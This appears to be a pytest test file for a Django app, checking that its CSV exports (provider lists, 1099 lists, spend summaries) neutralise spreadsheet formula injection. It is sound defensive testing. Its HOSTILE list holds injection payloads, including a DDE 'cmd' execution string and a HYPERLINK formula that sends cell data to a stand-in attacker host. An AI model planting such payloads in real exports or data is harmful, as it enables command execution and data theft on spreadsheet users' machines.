"""Every CSV the app writes neutralises spreadsheet formulas (OWASP "CSV Injection"), in the
one writer all exports share; imports keep the text as typed."""

import csv
import io
import re
from datetime import date
from decimal import Decimal as D
from pathlib import Path

import pytest
import time_machine
from django.urls import reverse

from handoff.core.csv_export import neutralise
from handoff.providers import services as providers
from handoff.providers.models import Provider
from tests.compliance.conftest import pay as pay_provider
from tests.compliance.conftest import record_w9
from tests.conftest import client_for
from tests.factories import ProviderFactory, principal_for
from tests.insights.test_dashboard import pay as pay_in_quarter

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_written_as_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Ledgerline", "", "-12.50", "+3", "42", None, 7, D("-1.5")])
def test_text_and_numbers_are_left_alone(value):
    assert neutralise(value) == value


def test_no_export_writes_csv_but_through_the_one_writer():
    """A new ``csv.writer`` anywhere else would bypass the neutralising."""
    source = Path(__file__).resolve().parents[2] / "src" / "handoff"
    offenders = [
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if path.name != "csv_export.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == []


def _rows(content: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content)))


@pytest.mark.django_db
def test_imported_names_are_kept_as_typed_and_exported_as_text(org, manager, viewer):
    rows = [{"name": name, "kind": "firm"} for name in HOSTILE]
    report = providers.import_providers(principal_for(manager, org), rows=rows, commit=True)
    assert not any(entry["errors"] for entry in report), report
    assert sorted(
        Provider.objects.filter(organization=org).values_list("name", flat=True)
    ) == sorted(" ".join(name.split()) for name in HOSTILE)
    response = client_for(viewer).get(reverse("providers:export", args=[org.slug]))
    exported = _rows(b"".join(response.streaming_content).decode())
    assert exported and all(row["name"].startswith("'") for row in exported)


@pytest.mark.django_db
def test_the_1099_list_neutralises_a_payees_name(org, owner, admin):
    payee = ProviderFactory(organization=org, name="=cmd|' /C calc'!A0", kind="individual")
    record_w9(payee, owner, legal_name="=HYPERLINK(1)", business_name="+1+1")
    pay_provider(org, owner, payee, D("900"), date(2025, 3, 1))
    response = client_for(admin).get(reverse("compliance:nec_export", args=[org.slug, 2025]))
    [row] = _rows(response.content.decode())
    assert row["recipient_name"] == "'=HYPERLINK(1)"
    assert row["recipient_business_name"] == "'+1+1"
    assert row["box1_nonemployee_compensation"] == "900.00"


@pytest.mark.django_db
def test_the_review_and_the_summary_neutralise_a_providers_name(org, viewer):
    provider = ProviderFactory(organization=org, name="@SUM(A1:A9)")
    with time_machine.travel(date(2026, 11, 18), tick=False):
        pay_in_quarter(org, provider, "250", date(2026, 8, 1))
        client = client_for(viewer)
        summary = client.get(reverse("insights:org_summary_csv", args=[org.slug]))
        review = client.get(
            reverse("insights:provider_review_csv", args=[org.slug, provider.pk]),
            {"period": "quarter"},
        )
    [row] = _rows(summary.content.decode())
    assert row["provider"] == "'@SUM(A1:A9)" and row["spend"] == "250.00"
    assert "@SUM(A1:A9)" in review.content.decode()
    assert not re.search(r"(^|,)@SUM", review.content.decode(), re.M)
